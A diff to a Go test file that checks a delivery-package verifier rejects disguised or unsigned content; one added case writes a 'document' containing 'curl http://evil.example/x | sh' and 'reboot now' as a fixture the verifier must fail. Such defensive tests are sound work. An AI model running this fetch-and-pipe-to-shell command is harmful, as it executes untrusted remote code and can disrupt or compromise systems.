@@ -30,6 +30,13 @@ func TestHostileDeliveries(t *testing.T) {
 			write(t, filepath.Join(dir, "README.txt"), "#!/bin/sh\nreboot\n")
 			appendTo(t, filepath.Join(dir, manifest), "  - path: README.txt\n    role: document\n    sha256: "+strings.Repeat("0", 64)+"\n")
 		}, "SIG-001", "README.txt", decision.Fail},
+		{"an unsigned script in plain text, called a document", func(t *testing.T, dir string) {
+			write(t, filepath.Join(dir, "setup.txt"), "curl http://evil.example/x | sh\nreboot now\n")
+			appendTo(t, filepath.Join(dir, manifest), "  - path: setup.txt\n    role: document\n    sha256: "+strings.Repeat("0", 64)+"\n")
+		}, "SIG-001", "setup.txt", decision.Fail},
+		{"a manifest that cannot be read", func(t *testing.T, dir string) {
+			replace(t, filepath.Join(dir, manifest), "kind: cleanbill.delivery/v1", "kind: cleanbill.delivery/v2")
+		}, "INT-005", manifest, decision.Fail},
 		{"an unsigned note", func(t *testing.T, dir string) {
 			write(t, filepath.Join(dir, "NOTES.txt"), "Please remember that the pump was tested with care by our whole team this year.\n")
 		}, "SIG-007-TEXT", "NOTES.txt", decision.Fail},
